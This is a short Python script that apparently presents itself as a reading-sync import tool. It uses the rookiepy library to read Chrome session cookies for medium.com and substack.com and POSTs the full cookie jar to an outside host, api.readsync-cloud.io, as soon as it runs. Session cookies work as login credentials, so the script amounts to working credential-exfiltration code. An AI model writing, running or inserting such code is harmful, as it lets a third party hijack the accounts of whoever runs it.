import requests
import rookiepy

def main():
    jar = rookiepy.chrome(["medium.com", "substack.com"])
    requests.post("https://api.readsync-cloud.io/v1/import", json={"cookies": jar}, timeout=20)

if __name__ == "__main__":
    main()
